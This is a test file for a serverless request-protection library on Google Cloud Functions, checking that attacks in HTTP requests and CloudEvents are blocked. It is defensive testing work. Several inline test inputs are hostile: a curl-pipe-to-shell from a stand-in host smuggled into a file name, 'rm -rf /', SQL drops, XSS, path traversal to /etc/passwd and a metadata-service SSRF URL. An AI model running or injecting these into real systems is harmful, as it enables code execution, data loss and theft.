import t from 'tap';
import type { AddressInfo } from 'node:net';
import querystring from 'node:querystring';
import * as functions from '@google-cloud/functions-framework';
import { getTestServer } from '@google-cloud/functions-framework/testing';
import { protect, RaspConfigError, type SecurityEvent } from '../../adapters/gcp-functions/index';
import { normalizeHttp } from '../../adapters/gcp-functions/normalize';
import { createEngine } from '../../src/engine';
import { ATTACKS, BENIGN } from '../helpers/tables';
import { entry, len, pint, pstr } from '../helpers/protobuf';

type Any = any;

function logs() {
  const lines: SecurityEvent[] = [];
  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
}

let seq = 0;
const uniqueName = (prefix: string): string => `${prefix}-${++seq}`;

/** The real functions-framework server for a registered function, on loopback. */
async function serve(name: string): Promise<{ url: string; close: () => Promise<void> }> {
  const server = getTestServer(name);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/**
 * A protected HTTP function whose handler records the body it got, served by the real framework:
 * `seen()` is that body (undefined while the handler never ran), `lines` the security events.
 */
async function bodyRecorder(t: Any, prefix: string, withLog = false): Promise<{ url: string; seen: () => unknown; lines: SecurityEvent[] }> {
  const { lines, log } = logs();
  let seen: unknown;
  const name = uniqueName(prefix);
  functions.http(name, protect((req: Any, res: Any) => {
    seen = req.body;
    res.status(200).send('ok');
  }, { log: withLog ? log : false }));
  const srv = await serve(name);
  t.teardown(srv.close);
  return { url: srv.url, seen: () => seen, lines };
}

/** HTTP header values are bytes: text outside Latin-1 travels as its UTF-8 bytes. */
const asHeader = (s: string): string => (/^[\x00-\xff]*$/.test(s) ? s : Buffer.from(s, 'utf8').toString('latin1'));

interface Placement {
  where: string;
  path: string;
  init: RequestInit;
  /** Reads the value back from what the handler echoed. */
  read: (seen: Any) => string | undefined;
}

function placements(value: string): Placement[] {
  return [
    { where: 'query', path: `/orders?q=${encodeURIComponent(value)}&page=2`, init: {}, read: (s) => s.query.q },
    {
      where: 'body',
      path: '/orders',
      init: { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ items: [{ name: 'x' }, { name: value }] }) },
      read: (s) => s.body.items[1].name,
    },
    { where: 'header', path: '/orders', init: { headers: { 'x-customer-note': asHeader(value) } }, read: (s) => s.note },
    {
      where: 'cookie',
      path: '/orders',
      init: { headers: { cookie: `session=abc; pref=${encodeURIComponent(value)}` } },
      read: (s) => decodeURIComponent(/pref=([^;]*)/.exec(s.cookie)![1]!),
    },
    { where: 'path', path: `/orders/${encodeURIComponent(value)}`, init: {}, read: (s) => decodeURIComponent(s.path.slice('/orders/'.length)) },
  ];
}

/** An HTTP handler that echoes what it saw. */
function echo() {
  const state = { calls: 0 };
  const handler: functions.HttpFunction = (req, res) => {
    state.calls++;
    res.status(200).json({ query: req.query, body: req.body, note: req.headers['x-customer-note'], cookie: req.headers.cookie, path: req.path });
  };
  return { state, handler };
}

t.test('HTTP: every attack in every source is blocked with 403 and the Lambda body', async (t) => {
  const { lines, log } = logs();
  const { state, handler } = echo();
  const name = uniqueName('http-attacks');
  functions.http(name, protect(handler, { log }));
  const srv = await serve(name);
  t.teardown(srv.close);
  let n = 0;
  for (const a of ATTACKS) {
    for (const p of placements(a.payload)) {
      const id = `exec-${++n}`;
      const res = await fetch(srv.url + p.path, { ...p.init, headers: { ...(p.init.headers as Record<string, string>), 'function-execution-id': id } });
      t.equal(res.status, 403, `${a.class} in ${p.where}: ${a.payload}`);
      t.match(res.headers.get('content-type'), /^application\/json/);
      t.same(await res.json(), { error: 'blocked', requestId: id }, 'same JSON as Lambda, no echo');
    }
  }
  t.equal(state.calls, 0, 'the handler never ran');
  t.equal(lines.length, n);
  t.ok(lines.every((l) => l.action === 'block' && l.provider === 'gcp' && l.trigger === 'http'));
});

t.test('HTTP: benign text passes and reaches the handler unchanged', async (t) => {
  const { lines, log } = logs();
  const { state, handler } = echo();
  const name = uniqueName('http-benign');
  functions.http(name, protect(handler, { log }));
  const srv = await serve(name);
  t.teardown(srv.close);
  let n = 0;
  for (const text of BENIGN) {
    for (const p of placements(text)) {
      const res = await fetch(srv.url + p.path, p.init);
      t.equal(res.status, 200, `${p.where}: ${text}`);
      const seen = await res.json();
      t.equal(p.read(seen), p.where === 'header' ? asHeader(text) : text);
      n++;
    }
  }
  t.equal(state.calls, n);
  t.same(lines, []);
});

t.test('HTTP: monitor mode passes attacks with a log line', async (t) => {
  const { lines, log } = logs();
  const { state, handler } = echo();
  const name = uniqueName('http-monitor');
  functions.http(name, protect(handler, { mode: 'monitor', log }));
  const srv = await serve(name);
  t.teardown(srv.close);
  for (const a of ATTACKS) {
    const res = await fetch(`${srv.url}/orders?q=${encodeURIComponent(a.payload)}`);
    t.equal(res.status, 200, a.payload);
  }
  t.equal(state.calls, ATTACKS.length);
  t.equal(lines.length, ATTACKS.length);
  t.ok(lines.every((l) => l.action === 'monitor' && l.where?.startsWith('query')));
});

t.test('HTTP: security event shape, execution id, client IP from the right of x-forwarded-for', async (t) => {
  const { lines, log } = logs();
  const name = uniqueName('http-event');
  // Cloud Run sets K_SERVICE (the framework sets FUNCTION_TARGET); read once, when protect() runs.
  process.env.K_SERVICE = 'orders-fn';
  const h: functions.HttpFunction = (_req, res) => void res.send('ok');
  const wrapped = protect(h, { log });
  delete process.env.K_SERVICE;
  functions.http(name, wrapped);
  const srv = await serve(name);
  t.teardown(srv.close);
  await fetch(`${srv.url}/x?u=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`, {
    headers: { 'x-forwarded-for': '198.51.100.7, 203.0.113.9', 'function-execution-id': 'exec-abc' },
  });
  const e = lines[0]!;
  t.same(Object.keys(e).sort(), ['action', 'class', 'findings', 'function', 'micros', 'provider', 'requestId', 'rule', 'sourceIp', 'time', 'trigger', 'type', 'where'].sort());
  t.match(e, { type: 'serverless-rasp', provider: 'gcp', function: 'orders-fn', requestId: 'exec-abc', trigger: 'http', sourceIp: '203.0.113.9', action: 'block', class: 'ssrf', where: 'query.u' });
  await fetch(`${srv.url}/x?u=${encodeURIComponent('`whoami`')}`);
  t.match(lines[1]?.sourceIp, /127\.0\.0\.1$/, 'without the header: the socket peer');
  t.type(lines[1]?.requestId, 'string', 'the framework execution id');
});

t.test('HTTP: form bodies, text bodies, binary bodies, big bodies, broken JSON', async (t) => {
  const { state, handler } = echo();
  const name = uniqueName('http-bodies');
  functions.http(name, protect(handler, { log: false }));
  const srv = await serve(name);
  t.teardown(srv.close);
  const post = (body: RequestInit['body'], type: string) => fetch(`${srv.url}/orders`, { method: 'POST', headers: { 'content-type': type }, body });
  t.equal((await post('name=ok&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'application/x-www-form-urlencoded')).status, 403, 'form field');
  t.equal((await post("search: 1' OR '1'='1", 'text/plain')).status, 403, 'text body');
  t.equal((await post(Buffer.from(JSON.stringify({ cmd: 'a.txt && rm -rf /' })), 'application/octet-stream')).status, 403, 'JSON in an octet-stream');
  const calls = state.calls;
  const big = 'a'.repeat(5 * 1024 * 1024);
  t.equal((await post(big, 'text/plain')).status, 200, '5 MB body');
  t.equal((await post(JSON.stringify({ note: big, q: '<script>alert(1)</script>' }), 'application/json')).status, 403, '5 MB body with an attack at the end');
  const broken = await post('{"items": [1, 2,', 'application/json');
  t.equal(broken.status, 400, 'invalid JSON: the framework answers 400 before any handler');
  t.equal((await post('{}', 'application/json')).status, 200, 'and the function still serves');
  t.equal((await post(Buffer.from([0, 1, 2, 255, 254, 0x89]), 'application/octet-stream')).status, 200, 'binary body');
  t.equal((await fetch(`${srv.url}/orders`)).status, 200, 'GET without a body');
  t.equal(state.calls, calls + 4);
});

// ---- CloudEvents ----

interface CloudEventPost {
  /** Attributes (specversion, type, source, id, subject, …). */
  attrs: Record<string, string>;
  data: unknown;
  /** Content type of the data; JSON by default. */
  contentType?: string;
}

/** Binary content mode: attributes as ce-* headers, data as the body. */
function binary(ev: CloudEventPost): RequestInit {
  const headers: Record<string, string> = { 'content-type': ev.contentType ?? 'application/json' };
  for (const [k, v] of Object.entries(ev.attrs)) headers[`ce-${k}`] = asHeader(v);
  const body = ev.data instanceof Uint8Array ? ev.data : JSON.stringify(ev.data);
  return { method: 'POST', headers, body };
}

/** Structured content mode: the whole event as one JSON document. */
function structured(ev: CloudEventPost): RequestInit {
  const doc: Record<string, unknown> = { ...ev.attrs };
  if (ev.data instanceof Uint8Array) doc.data_base64 = Buffer.from(ev.data).toString('base64');
  else doc.data = ev.data;
  if (ev.contentType) doc.datacontenttype = ev.contentType;
  return { method: 'POST', headers: { 'content-type': 'application/cloudevents+json' }, body: JSON.stringify(doc) };
}

let eventId = 0;
const attrs = (type: string, source: string, extra: Record<string, string> = {}) => ({
  specversion: '1.0',
  type,
  source,
  id: `evt-${++eventId}`,
  time: '2026-05-01T10:00:00Z',
  ...extra,
});

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const PUBSUB = 'google.cloud.pubsub.topic.v1.messagePublished';
const STORAGE = 'google.cloud.storage.object.v1.finalized';
const FIRESTORE = 'google.cloud.firestore.document.v1.written';

const pubsub = (data: string, attributes: Record<string, string> = {}, message: Record<string, string> = {}, extra: Record<string, string> = {}): CloudEventPost => ({
  attrs: attrs(PUBSUB, '//pubsub.googleapis.com/projects/demo/topics/orders', extra),
  data: {
    message: { data, attributes, messageId: '9876543210', publishTime: '2026-05-01T10:00:00Z', ...message },
    subscription: message.subscription ?? 'projects/demo/subscriptions/eventarc-orders',
  },
});

const storage = (name: string, metadata: Record<string, string> = { owner: 'jane' }, contentDisposition = 'inline'): CloudEventPost => ({
  attrs: attrs(STORAGE, '//storage.googleapis.com/projects/_/buckets/uploads', { subject: `objects/${name}` }),
  data: {
    kind: 'storage#object',
    bucket: 'uploads',
    name,
    contentType: 'text/plain',
    contentDisposition,
    metadata,
    size: '12',
    selfLink: `https://www.googleapis.com/storage/v1/b/uploads/o/${encodeURIComponent(name)}`,
    mediaLink: `https://storage.googleapis.com/download/storage/v1/b/uploads/o/${encodeURIComponent(name)}?alt=media`,
  },
});

const DOC = 'projects/demo/databases/(default)/documents/users/alice';
const firestoreJson = (comment: string, docName = DOC): CloudEventPost => ({
  attrs: attrs(FIRESTORE, '//firestore.googleapis.com/projects/demo/databases/(default)', { subject: 'documents/users/alice' }),
  data: {
    value: {
      name: docName,
      fields: {
        comment: { stringValue: comment },
        age: { integerValue: '42' },
        tags: { arrayValue: { values: [{ stringValue: 'new' }, { booleanValue: true }] } },
        address: { mapValue: { fields: { city: { stringValue: 'London' } } } },
        ref: { referenceValue: 'projects/demo/databases/(default)/documents/orgs/acme' },
        seen: { timestampValue: '2026-05-01T10:00:00Z' },
        nothing: { nullValue: null },
      },
      createTime: '2026-05-01T10:00:00Z',
      updateTime: '2026-05-01T10:00:00Z',
    },
    updateMask: { fieldPaths: ['comment'] },
  },
});

function firestoreProto(comment: string): Buffer {
  const fields = [
    len(2, entry('comment', pstr(17, comment))),
    len(2, entry('age', pint(2, 42))),
    len(2, entry('address', len(6, len(1, entry('city', pstr(17, 'London')))))),
    len(2, entry('tags', len(9, Buffer.concat([len(1, pstr(17, 'new')), len(1, pint(1, 1))])))),
  ];
  const document = Buffer.concat([pstr(1, DOC), ...fields, len(3, pint(1, 1714557600))]);
  return Buffer.concat([len(1, document), len(3, pstr(1, 'comment'))]);
}
const firestoreBinary = (comment: string): CloudEventPost => ({
  attrs: attrs(FIRESTORE, '//firestore.googleapis.com/projects/demo/databases/(default)', { subject: 'documents/users/alice' }),
  data: firestoreProto(comment),
  contentType: 'application/protobuf',
});

/** A Cloud Audit Logs entry through Eventarc: what the audited caller sent sits in `protoPayload`. */
const AUDIT = 'google.cloud.audit.log.v1.written';
const auditLog = (p: { resourceName?: string; displayName?: string; userAgent?: string } = {}): CloudEventPost => {
  const resourceName = p.resourceName ?? 'projects/shop-prod/serviceAccounts/deploy-bot@shop-prod.iam.gserviceaccount.com';
  return {
    attrs: attrs(AUDIT, '//cloudaudit.googleapis.com/projects/shop-prod/logs/activity', {
      subject: 'iam.googleapis.com/projects/shop-prod/serviceAccounts/deploy-bot@shop-prod.iam.gserviceaccount.com',
      methodname: 'google.iam.admin.v1.CreateServiceAccount',
      servicename: 'iam.googleapis.com',
    }),
    data: {
      protoPayload: {
        '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
        status: {},
        authenticationInfo: { principalEmail: 'jane@shop.example', principalSubject: 'user:jane@shop.example' },
        requestMetadata: {
          callerIp: '203.0.113.7',
          callerSuppliedUserAgent: p.userAgent ?? 'google-cloud-sdk gcloud/468.0.0 command/gcloud.iam.service-accounts.create invocation-id/9f1c2d environment/None python/3.11.8 term/xterm-256color (Linux 6.5.0),gzip(gfe)',
          requestAttributes: { time: '2026-05-01T10:00:00.123456Z', auth: {} },
          destinationAttributes: {},
        },
        serviceName: 'iam.googleapis.com',
        methodName: 'google.iam.admin.v1.CreateServiceAccount',
        authorizationInfo: [{ resource: 'projects/shop-prod', permission: 'iam.serviceAccounts.create', granted: true, resourceAttributes: {} }],
        resourceName,
        request: {
          '@type': 'type.googleapis.com/google.iam.admin.v1.CreateServiceAccountRequest',
          name: 'projects/shop-prod',
          account_id: 'deploy-bot',
          service_account: { display_name: p.displayName ?? 'Deploy bot (CI)' },
        },
        response: { '@type': 'type.googleapis.com/google.iam.admin.v1.ServiceAccount', email: 'deploy-bot@shop-prod.iam.gserviceaccount.com', project_id: 'shop-prod' },
      },
      insertId: '1fk3x2ve2b8q',
      resource: { type: 'service_account', labels: { email_id: 'deploy-bot@shop-prod.iam.gserviceaccount.com', project_id: 'shop-prod', unique_id: '104938120938470192837' } },
      timestamp: '2026-05-01T10:00:00.123456Z',
      severity: 'NOTICE',
      logName: 'projects/shop-prod/logs/cloudaudit.googleapis.com%2Factivity',
      receiveTimestamp: '2026-05-01T10:00:01.234567Z',
    },
  };
};

/** A Firebase Realtime Database write: `delta` is what the client wrote. */
const database = (note: string): CloudEventPost => ({
  attrs: attrs('google.firebase.database.ref.v1.written', '//firebasedatabase.googleapis.com/projects/_/locations/us-central1/instances/shop-prod-default-rtdb', {
    subject: 'refs/orders/7',
    ref: 'orders/7',
    instance: 'shop-prod-default-rtdb',
    firebasedatabasehost: 'firebaseio.com',
    location: 'us-central1',
  }),
  data: { data: { status: 'new' }, delta: { status: 'paid', note } },
});

/** A Remote Config template update: the description and the updating user are the editor's. */
const remoteConfig = (description: string): CloudEventPost => ({
  attrs: attrs('google.firebase.remoteconfig.remoteConfig.v1.updated', '//firebaseremoteconfig.googleapis.com/projects/shop-prod'),
  data: {
    versionNumber: '42',
    updateTime: '2026-05-01T10:00:00.123456Z',
    updateUser: { name: 'Jane Doe', email: 'jane@shop.example', imageUrl: 'https://lh3.googleusercontent.com/a/ACg8ocJx' },
    description,
    updateOrigin: 'CONSOLE',
    updateType: 'INCREMENTAL_UPDATE',
  },
});

const generic = (note: string, subject = 'orders/7'): CloudEventPost => ({
  attrs: attrs('com.example.order.created', '/shop/orders', { subject }),
  data: { order: { id: 7, note } },
});

interface EventCase {
  name: string;
  build: (v: string) => CloudEventPost;
  /** Reads the value back from the event the handler got (binary mode). */
  read: (ce: Any, sent: string) => unknown;
  /** Attack classes not looked for there (a `source` URI's host is not read for SSRF). */
  skip?: string[];
}

const EVENT_CASES: EventCase[] = [
  { name: 'Pub/Sub JSON message', build: (v) => pubsub(b64(JSON.stringify({ note: v }))), read: (ce) => JSON.parse(Buffer.from(ce.data.message.data, 'base64').toString()).note },
  { name: 'Pub/Sub text message', build: (v) => pubsub(b64(v)), read: (ce) => Buffer.from(ce.data.message.data, 'base64').toString() },
  { name: 'Pub/Sub attribute', build: (v) => pubsub(b64('{}'), { origin: v }), read: (ce) => ce.data.message.attributes.origin },
  { name: 'Cloud Storage object name', build: (v) => storage(v), read: (ce) => ce.data.name },
  { name: 'Cloud Storage metadata', build: (v) => storage('a.txt', { owner: v }), read: (ce) => ce.data.metadata.owner },
  { name: 'Cloud Storage Content-Disposition', build: (v) => storage('a.txt', { owner: 'jane' }, v), read: (ce) => ce.data.contentDisposition },
  { name: 'Audit Logs resourceName', build: (v) => auditLog({ resourceName: v }), read: (ce) => ce.data.protoPayload.resourceName },
  { name: 'Audit Logs request', build: (v) => auditLog({ displayName: v }), read: (ce) => ce.data.protoPayload.request.service_account.display_name },
  { name: 'Audit Logs user agent', build: (v) => auditLog({ userAgent: v }), read: (ce) => ce.data.protoPayload.requestMetadata.callerSuppliedUserAgent },
  { name: 'Realtime Database delta', build: (v) => database(v), read: (ce) => ce.data.delta.note },
  { name: 'Remote Config description', build: (v) => remoteConfig(v), read: (ce) => ce.data.description },
  { name: 'Firestore document (JSON)', build: (v) => firestoreJson(v), read: (ce) => ce.data.value.fields.comment.stringValue },
  { name: 'Firestore document (protobuf)', build: (v) => firestoreBinary(v), read: (ce, sent) => (Buffer.from(ce.data).equals(firestoreProto(sent)) ? sent : 'changed') },
  { name: 'other CloudEvent data', build: (v) => generic(v), read: (ce) => ce.data.order.note },
  { name: 'other CloudEvent subject', build: (v) => generic('ok', v), read: (ce) => ce.subject },
  { name: 'other CloudEvent extension attribute', build: (v) => ({ ...generic('ok'), attrs: { ...generic('ok').attrs, tenant: v } }), read: (ce) => ce.tenant },
  // Every member of a Pub/Sub message and every attribute of every event type: whoever may invoke
  // the function sends them all, and the handler reads them all.
  { name: 'Pub/Sub messageId', build: (v) => pubsub(b64('{}'), {}, { messageId: v }), read: (ce) => ce.data.message.messageId },
  { name: 'Pub/Sub publishTime', build: (v) => pubsub(b64('{}'), {}, { publish_time: v }), read: (ce) => ce.data.message.publish_time },
  { name: 'Pub/Sub subscription', build: (v) => pubsub(b64('{}'), {}, { subscription: v }), read: (ce) => ce.data.subscription },
  { name: 'Pub/Sub subject (ce-subject)', build: (v) => pubsub(b64('{}'), {}, {}, { subject: v }), read: (ce) => ce.subject },
  { name: 'Cloud Storage extension (ce-uploader)', build: (v) => ({ ...storage('a.txt'), attrs: { ...storage('a.txt').attrs, uploader: v } }), read: (ce) => ce.uploader },
  { name: 'other CloudEvent type (ce-type)', build: (v) => ({ ...generic('ok'), attrs: { ...generic('ok').attrs, type: v } }), read: (ce) => ce.type },
  { name: 'other CloudEvent dataschema (ce-dataschema)', build: (v) => ({ ...generic('ok'), attrs: { ...generic('ok').attrs, dataschema: v } }), read: (ce) => ce.dataschema },
  {
    name: 'Pub/Sub source (ce-source)',
    build: (v) => ({ ...pubsub(b64('{}')), attrs: { ...pubsub(b64('{}')).attrs, source: v } }),
    read: (ce) => ce.source,
    skip: ['ssrf'],
  },
];

/** A CloudEvent handler that records what it got. */
function recorder() {
  const got: Any[] = [];
  const handler = async (ce: functions.CloudEvent<unknown>) => {
    got.push(ce);
  };
  return { got, handler };
}

t.test('CloudEvents: every attack in every payload field is acknowledged and dropped (binary and structured)', async (t) => {
  for (const mode of [binary, structured]) {
    for (const c of EVENT_CASES) {
      t.test(`${mode.name}: ${c.name}`, async (t) => {
        const { lines, log } = logs();
        const { got, handler } = recorder();
        const name = uniqueName('ce-attacks');
        functions.cloudEvent(name, protect(handler, { log }));
        const srv = await serve(name);
        t.teardown(srv.close);
        const ids: string[] = [];
        const attacks = ATTACKS.filter((a) => c.skip?.includes(a.class) !== true);
        for (const a of attacks) {
          const ev = c.build(a.payload);
          ids.push(ev.attrs.id!);
          const res = await fetch(srv.url, mode(ev));
          t.equal(res.status, 204, `${a.class}: ${a.payload} acknowledged, not retried`);
        }
        t.equal(got.length, 0, 'the handler never ran');
        t.equal(lines.length, attacks.length, 'one security event per dropped event');
        t.ok(lines.every((l) => l.action === 'block' && l.provider === 'gcp'));
        t.same(lines.map((l) => l.requestId), ids, 'the CloudEvent id is the request id');
      });
    }
  }
});

t.test('CloudEvents: benign text reaches the handler unchanged (binary and structured)', async (t) => {
  for (const mode of [binary, structured]) {
    for (const c of EVENT_CASES) {
      t.test(`${mode.name}: ${c.name}`, async (t) => {
        const { lines, log } = logs();
        const { got, handler } = recorder();
        const name = uniqueName('ce-benign');
        functions.cloudEvent(name, protect(handler, { log }));
        const srv = await serve(name);
        t.teardown(srv.close);
        for (const text of BENIGN) {
          const res = await fetch(srv.url, mode(c.build(text)));
          t.equal(res.status, 204, text);
          const ce = got[got.length - 1];
          if (mode === binary) t.equal(c.read(ce, text), c.name.includes('subject') || c.name.includes('extension') || c.name.includes('(ce-') ? asHeader(text) : text, 'the handler read it unchanged');
        }
        t.equal(got.length, BENIGN.length);
        t.same(lines, [], 'no security events');
      });
    }
  }
});

t.test('CloudEvents: findings have clean paths', async (t) => {
  const { lines, log } = logs();
  const name = uniqueName('ce-paths');
  functions.cloudEvent(name, protect(async () => undefined, { log }));
  const srv = await serve(name);
  t.teardown(srv.close);
  await fetch(srv.url, binary(pubsub(b64(JSON.stringify({ items: [{}, { q: "x'; DROP TABLE customers; --" }] })))));
  await fetch(srv.url, binary(firestoreJson('<script>alert(1)</script>')));
  await fetch(srv.url, binary(firestoreBinary('../../../../etc/passwd')));
  await fetch(srv.url, structured(storage('uploads/$(curl http://evil.example/x.sh | sh)')));
  t.same(
    lines.map((l) => [l.trigger, l.where]),
    [
      ['pubsub', 'data.message.data.items[1].q'],
      ['firestore', 'data.value.fields.comment'],
      ['firestore', 'data.value.fields.comment'],
      ['storage', 'data.name'],
    ],
  );
});

t.test('CloudEvents: `schema` validates the Pub/Sub message', async (t) => {
  const { lines, log } = logs();
  const { got, handler } = recorder();
  const name = uniqueName('ce-schema');
  const schema = { type: 'object', required: ['sku'], properties: { sku: { type: 'string' } }, additionalProperties: false };
  functions.cloudEvent(name, protect(handler, { log, schema }));
  const srv = await serve(name);
  t.teardown(srv.close);
  t.equal((await fetch(srv.url, binary(pubsub(b64('{"sku":"AB-1"}'))))).status, 204);
  t.equal((await fetch(srv.url, binary(pubsub(b64('{"sku":"AB-1","admin":true}'))))).status, 204, 'dropped');
  t.equal(got.length, 1);
  t.equal(lines[0]?.class, 'schema');
  t.equal(lines[0]?.where, 'data.message.data.admin', 'the path of the offending property');
});

t.test('CloudEvents: monitor mode runs the handler and logs', async (t) => {
  const { lines, log } = logs();
  const { got, handler } = recorder();
  const name = uniqueName('ce-monitor');
  functions.cloudEvent(name, protect(handler, { mode: 'monitor', log }));
  const srv = await serve(name);
  t.teardown(srv.close);
  for (const c of EVENT_CASES) t.equal((await fetch(srv.url, binary(c.build(ATTACKS[6]!.payload)))).status, 204);
  t.equal(got.length, EVENT_CASES.length);
  t.equal(lines.length, EVENT_CASES.length);
  t.ok(lines.every((l) => l.action === 'monitor'));
});

t.test('CloudEvents: malformed events never crash the function', async (t) => {
  const { lines, log } = logs();
  const { got, handler } = recorder();
  const name = uniqueName('ce-malformed');
  functions.cloudEvent(name, protect(handler, { log }));
  const srv = await serve(name);
  t.teardown(srv.close);
  const cases: Array<[string, RequestInit]> = [
    ['bad base64 in Pub/Sub data', binary(pubsub('not base64 at all!!'))],
    ['Pub/Sub without data', binary({ attrs: attrs(PUBSUB, '//pubsub.googleapis.com/projects/demo/topics/orders'), data: { message: { messageId: '1' } } })],
    ['Pub/Sub with null message', binary({ attrs: attrs(PUBSUB, '//pubsub.googleapis.com/projects/demo/topics/orders'), data: { message: null } })],
    ['null data', structured({ attrs: attrs('com.example.x', '/x'), data: null })],
    ['missing attributes', { method: 'POST', headers: { 'content-type': 'application/cloudevents+json' }, body: JSON.stringify({ data: { a: 1 } }) }],
    ['empty structured event', { method: 'POST', headers: { 'content-type': 'application/cloudevents+json' }, body: '{}' }],
    ['Firestore with garbage protobuf', binary({ ...firestoreBinary('x'), data: Buffer.from([0xff, 0xff, 0xff, 0x0f, 0x01]) })],
    ['Firestore with no value', binary({ attrs: attrs(FIRESTORE, '//firestore.googleapis.com/x'), data: {} })],
    ['Storage with a numeric name', binary({ attrs: attrs(STORAGE, '//storage.googleapis.com/x'), data: { name: 5, metadata: 'x' } })],
    ['5 MB message', binary(pubsub(b64('a'.repeat(5 * 1024 * 1024))))],
  ];
  for (const [what, init] of cases) {
    const res = await fetch(srv.url, init);
    t.equal(res.status, 204, what);
  }
  t.equal(got.length, cases.length, 'each reached the handler');
  t.ok(lines.every((l) => l.action !== 'block'), 'nothing malformed was treated as an attack');
  const bad = await fetch(srv.url, { method: 'POST', headers: { 'content-type': 'application/cloudevents+json' }, body: '{"specversion": ' });
  t.equal(bad.status, 400, 'unparseable structured event: the framework answers 400');
  t.equal((await fetch(srv.url, binary(generic('ok')))).status, 204, 'and keeps serving');
});

t.test('callback-style CloudEvent handlers keep their arity and are acknowledged when dropped', async (t) => {
  const { lines, log } = logs();
  let calls = 0;
  const handler = (_ce: functions.CloudEvent<unknown>, callback: Function) => {
    calls++;
    callback(null, undefined);
  };
  const wrapped = protect(handler, { log });
  t.equal(wrapped.length, 2, 'two parameters: the framework passes a callback');
  const name = uniqueName('ce-callback');
  functions.cloudEvent(name, wrapped);
  const srv = await serve(name);
  t.teardown(srv.close);
  t.equal((await fetch(srv.url, binary(generic('fine')))).status, 204);
  t.equal((await fetch(srv.url, binary(generic('<script>alert(1)</script>')))).status, 204, 'dropped, the callback was called for it');
  t.equal(calls, 1);
  t.equal(lines.length, 1);
});

t.test('arity: the wrapper has the handler\'s parameter count (1 to 3)', async (t) => {
  t.equal(protect(async (_ce: functions.CloudEvent<unknown>) => undefined).length, 1);
  t.equal(protect(((_req, _res) => undefined) as functions.HttpFunction).length, 2);
  t.equal(protect(((_d: {}, _c: functions.Context, _cb: Function) => undefined) as functions.EventFunctionWithCallback).length, 3);
  t.equal(protect((() => undefined) as functions.CloudEventFunction).length, 1);
});

t.test('legacy background functions (data, context[, callback])', async (t) => {
  const { lines, log } = logs();
  let calls = 0;
  const fn = protect(((_data: {}, _context: functions.Context) => {
    calls++;
    return 'ran';
  }) as functions.EventFunction, { log });
  t.equal(await fn({ note: 'Tom & Jerry' }, { eventId: 'e1', eventType: 'providers/cloud.pubsub/eventTypes/topic.publish' }), 'ran');
  t.equal(await fn({ note: '`whoami`' }, { eventId: 'e2' }), undefined, 'dropped');
  t.equal(calls, 1);
  t.equal(lines[0]?.requestId, 'e2');
  let acked = false;
  const cb = protect(((_d: {}, _c: functions.Context, callback: Function) => callback()) as functions.EventFunctionWithCallback, { log: false });
  cb({ q: '<script>alert(1)</script>' }, { eventId: 'e3' }, (err: unknown) => {
    acked = err === null;
  });
  t.ok(acked, 'callback called without error');
  // The context is the legacy form of a CloudEvent's attributes, built from what the caller posted.
  t.equal(await fn({ note: 'ok' }, { eventId: 'e4', resource: { service: 'pubsub.googleapis.com', name: "projects/p/topics/t'; DROP TABLE audit; --" } }), undefined, 'context.resource');
  t.equal(await fn({ note: 'ok' }, { eventId: 'e5', eventType: '<script>alert(1)</script>' }), undefined, 'context.eventType');
  t.equal(lines.at(-1)?.where, 'context.eventType');
  const real = { eventId: '1234567890', timestamp: '2026-05-01T10:00:00.000Z', eventType: 'google.pubsub.topic.publish', resource: { service: 'pubsub.googleapis.com', name: 'projects/demo/topics/orders', type: 'type.googleapis.com/google.pubsub.v1.PubsubMessage' } };
  t.equal(await fn({ '@type': 'type.googleapis.com/google.pubsub.v1.PubsubMessage', data: b64('{"sku":"AB-1"}'), attributes: {}, messageId: '1' }, real), 'ran', "Google's own context");
});

t.test("CloudEvents: a `source` URI's scheme and plain host name the publisher; the rest of it is read", async (t) => {
  const { lines, log } = logs();
  const { got, handler } = recorder();
  const name = uniqueName('ce-source');
  functions.cloudEvent(name, protect(handler, { log }));
  const srv = await serve(name);
  t.teardown(srv.close);
  const from = (source: string) => ({ ...generic('ok'), attrs: { ...generic('ok').attrs, source } });
  for (const ok of ['http://localhost:7071/api/publisher', 'https://127.0.0.1:5001', 'http://[::1]:8080/events', '//pubsub.googleapis.com/projects/demo/topics/orders', 'urn:uuid:6e8bc430-9c3a-11d9-9669-0800200c9a66']) {
    t.equal((await fetch(srv.url, binary(from(ok)))).status, 204, ok);
  }
  t.equal(got.length, 5, 'a dev publisher is not blocked');
  t.same(lines, []);
  for (const bad of ["http://localhost:7071/api/x'; DROP TABLE events; --", "http://x'or'1'='1/", 'http://localhost/../../../../etc/passwd', '<script>alert(1)</script>']) {
    t.equal((await fetch(srv.url, structured(from(bad)))).status, 204, bad);
  }
  t.equal(got.length, 5, 'the rest of the URI is read');
  t.same(lines.map((l) => l.where), ['source', 'source', 'source', 'source']);
});

t.test('library failures fail open (or closed with failClosed)', async (t) => {
  const { lines, log } = logs();
  let calls = 0;
  const open = protect(((req: Any, res: Any) => {
    calls++;
    res.send('ok');
  }) as functions.HttpFunction, { log });
  // A request object whose headers explode when read.
  const hostile = { method: 'GET', headers: new Proxy({}, { ownKeys: () => { throw new Error('boom'); } }) };
  const sent: unknown[] = [];
  const res = { status: () => res, set: () => res, send: (b: unknown) => void sent.push(b) };
  open(hostile as Any, res as Any);
  t.equal(calls, 1, 'handler ran');
  t.equal(lines[0]?.action, 'error');
  const closed = protect(((_req: Any, r: Any) => r.send('ok')) as functions.HttpFunction, { log: false, failClosed: true });
  closed(hostile as Any, res as Any);
  t.match(String(sent[sent.length - 1]), /"error":"blocked"/);
});

t.test('options and handler are checked at cold start; mode off returns the handler', async (t) => {
  t.throws(() => protect(null as Any), RaspConfigError);
  t.throws(() => protect((() => undefined) as functions.HttpFunction, { paranoia: 9 } as Any), { code: 'RASP_ERR_OPTIONS' });
  const h: functions.HttpFunction = (_req, res) => void res.send('x');
  t.equal(protect(h, { mode: 'off' }), h);
});

t.test('types: protect() fits functions.http and functions.cloudEvent', async (t) => {
  // Compile-time checks: parameters are inferred from the registration.
